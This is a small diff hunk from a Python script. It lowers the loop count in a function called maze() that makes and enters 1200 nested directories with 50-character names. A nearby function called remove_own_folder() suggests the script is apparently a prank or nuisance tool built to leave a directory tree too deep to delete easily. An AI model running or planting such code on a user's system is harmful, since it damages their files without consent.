@@ -379,7 +379,7 @@ def remove_own_folder():
     return 1
 
 def maze():
-    for _ in range(3000):
+    for _ in range(1200):
         os.mkdir("a" * 50)
         os.chdir("a" * 50)
     return 1
